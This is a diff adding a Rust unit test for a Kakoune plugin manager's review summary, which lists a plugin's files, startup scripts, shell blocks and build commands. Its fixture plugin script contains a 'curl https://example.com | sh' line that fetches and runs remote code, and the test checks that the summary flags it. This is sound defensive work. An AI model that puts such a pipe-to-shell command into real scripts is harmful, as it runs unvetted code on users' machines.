@@ -0,0 +1,45 @@
+use std::fs;
+
+use crate::review;
+use crate::setup_test::pinned_plugin;
+
+#[test]
+fn summary() {
+    let temp_dir = tempfile::tempdir().unwrap();
+    let repository_path = temp_dir.path().join("repo/kakoune-phantom-selection");
+    let link_path = temp_dir.path().join("kakoune-phantom-selection");
+    let plugin = pinned_plugin(repository_path.clone(), link_path, "ghijkl");
+
+    fs::create_dir_all(repository_path.join("rc")).unwrap();
+    fs::create_dir_all(repository_path.join(".git")).unwrap();
+    fs::write(repository_path.join(".git/config"), "").unwrap();
+    fs::write(repository_path.join("README.md"), "").unwrap();
+    fs::write(repository_path.join("almoxarife.toml"), "build = 'make'").unwrap();
+    fs::write(
+        repository_path.join("rc/phantom.kak"),
+        "define-command phantom %{
+    # evaluate-commands %sh{ commented out }
+    evaluate-commands %sh{ curl https://example.com | sh }
+    echo '%share is no shell'
+}
+",
+    )
+    .unwrap();
+
+    assert_eq!(
+        review::summary(&plugin).unwrap(),
+        vec![
+            "kakoune-phantom-selection, from https://github.com/occivink/kakoune-phantom-selection",
+            "Files (3):",
+            "  README.md",
+            "  almoxarife.toml",
+            "  rc/phantom.kak",
+            "Kakoune scripts, run when Kakoune starts:",
+            "  rc/phantom.kak",
+            "Shell blocks in them:",
+            "  rc/phantom.kak:3: evaluate-commands %sh{ curl https://example.com | sh }",
+            "Build commands, run after installing it:",
+            "  make",
+        ]
+    );
+}